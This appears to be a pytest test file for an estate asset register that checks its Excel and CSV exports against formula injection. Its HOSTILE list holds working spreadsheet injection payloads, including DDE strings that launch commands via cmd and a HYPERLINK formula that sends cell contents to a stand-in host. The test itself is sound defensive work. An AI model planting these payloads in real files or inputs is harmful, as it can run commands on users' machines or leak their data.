"""Hostile words go in by every door and out by every other: nowhere do they become a formula."""

import csv
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from estate.domain.neutral import as_it_was, begins_like_a_formula
from estate.domain.visits import VisitDraft, VisitKind
from estate.operations import browse
from estate.operations.bring_in import look
from estate.operations.export_tables import export_tables
from estate.operations.keep_instruments import add_instrument
from estate.operations.record_visit import record_visit
from estate.operations.register import Register
from estate.operations.write_marked import write_marked
from estate.operations.write_report import write_overdue, write_summary
from estate.operations.write_round_sheet import Round, write_round_sheet
from estate.store import places
from tests.builders import GOOD, TODAY
from tests.operations.conftest import NOW, WHO, bring
from tests.operations.test_record_visit import typed

HOSTILE = (
    '=HYPERLINK("//x.example?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(server;topic;item)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    "\u200b=1+1",
    "{=1+1}",
    "'=1+1",
    "x;=1+1",
    '"=1+1"',
    "%0A=1+1",
)
MUCH_LATER = TODAY.replace(year=2029)
HEADING = (
    "Asset ref,Site,Building,Level,Room no,Room,Outlet,Use,Used by,Make,Model,Serial no,Class,Set °C,Fitted"
)


def quoted(*cells: str) -> str:
    return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)


def at_outlet(register: Register, reference: str) -> VisitDraft:
    with register.database.reading() as session:
        outlet = next(each for each in places.outlets(session) if each.reference == reference)
    valve = browse.outlet_page(register, outlet.id, TODAY).valve
    assert valve is not None
    return VisitDraft(valve.id, outlet.id, VisitKind.IN_SERVICE, TODAY, GOOD)


@pytest.fixture
def poisoned(empty: Register, tmp_path: Path) -> Register:
    """A register in which every name, remark and reference is hostile."""
    lines = [HEADING]
    for number, text in enumerate(HOSTILE):
        site, building, *others = [text] * 6
        names = [site, f"{building}{number}", *others]  # levels alike but for a sign can't share a building
        valve = [text, text, f"{text}{number}", "TMV3", "41", "2026-01-05"]
        lines.append(quoted(f"{text}{number}", *names, "basin", "patients", *valve))
    bring(empty, tmp_path, "\n".join(lines) + "\n", "assets.csv")
    for number, text in enumerate(HOSTILE):
        add_instrument(empty, f"{text} T{number}", who=text, at=NOW)
        draft = replace(at_outlet(empty, f"{text}{number}"), remarks=text, person=text, instrument_words=text)
        record_visit(empty, draft, who=text, at=NOW, today=TODAY)
    return empty


def typed_cells(path: Path) -> Iterator[Cell]:
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if isinstance(cell, Cell))


def check(path: Path) -> list[str]:
    """See that no cell of a workbook runs, and give its words."""
    words = []
    for cell in typed_cells(path):
        assert cell.data_type not in ("f", "e")
        assert cell.hyperlink is None
        if isinstance(cell.value, str):
            assert cell.quotePrefix or not begins_like_a_formula(cell.value)
            words.append(cell.value)
    return words


def test_that_no_report_runs_anything(poisoned: Register, tmp_path: Path) -> None:
    words = check(write_overdue(poisoned, tmp_path / "overdue.xlsx", MUCH_LATER))
    assert {f"{text}{number}" for number, text in enumerate(HOSTILE)} & set(words)
    check(write_summary(poisoned, tmp_path / "summary.xlsx", TODAY))


def test_that_no_round_sheet_runs_anything(poisoned: Register, tmp_path: Path) -> None:
    path = write_round_sheet(poisoned, Round(), tmp_path / "round.xlsx", TODAY)
    assert {f"{text}{number}" for number, text in enumerate(HOSTILE)} <= set(check(path))
    sheet = load_workbook(path)["Round"]
    sources = {each.formula1 for each in sheet.data_validations.dataValidation if each.type == "list"}
    assert len([each for each in sources if each.startswith("Lists!$")]) == 2
    assert {each for each in sources if not each.startswith("Lists!$")} <= {
        '"yes,no"',
        '"commissioning,in-service test,service"',
        next(each for each in sources if "no access" in each),
    }


def test_that_no_marked_copy_runs_anything(poisoned: Register, tmp_path: Path) -> None:
    lines = ["Ref,Date,Mixed as found °C,Remarks"]
    lines += [quoted(text, "2026-11-20", text, text) for text in HOSTILE]
    path = tmp_path / "=round.csv"
    path.write_text("\n".join(lines) + "\n", "utf-8")
    proposal = look(poisoned, path, None, TODAY)
    assert len({each.row for each in proposal.questions}) == len(HOSTILE)
    words = check(write_marked(poisoned, proposal, tmp_path / "marked.xlsx"))
    assert set(HOSTILE) <= set(words)


def test_that_no_exported_table_runs_anything_and_none_loses_a_character(
    poisoned: Register, tmp_path: Path
) -> None:
    found: set[str] = set()
    for path in export_tables(poisoned, tmp_path / "out"):
        with path.open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                assert not [cell for cell in row if _runs(cell)]
                found |= {as_it_was(cell) for cell in row}
        for line in path.read_text("utf-8").splitlines():
            assert not [piece for piece in line.split(";") if piece.startswith(("=", "+", "@"))]
    assert set(HOSTILE) <= found


def _runs(cell: str) -> bool:
    """Whether a program could take a cell for a formula; a number below zero is none."""
    if not begins_like_a_formula(cell):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_that_numbers_below_zero_stay_numbers(register: Register, tmp_path: Path) -> None:
    for day, found in ((TODAY - timedelta(days=30), 44.0), (TODAY, 41.0)):
        draft = replace(typed(register, day, found_c=found, left_c=found), remarks="-3.0")
        record_visit(register, draft, who=WHO, at=NOW, today=TODAY)
    export_tables(register, tmp_path / "out")
    assert "-3.0" in cells_of(tmp_path / "out" / "finding.csv")
    assert "-3.0" not in cells_of(tmp_path / "out" / "visits.csv")
    assert "'-3.0" in cells_of(tmp_path / "out" / "visits.csv")


def cells_of(path: Path) -> set[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return {cell for row in csv.reader(stream) for cell in row}
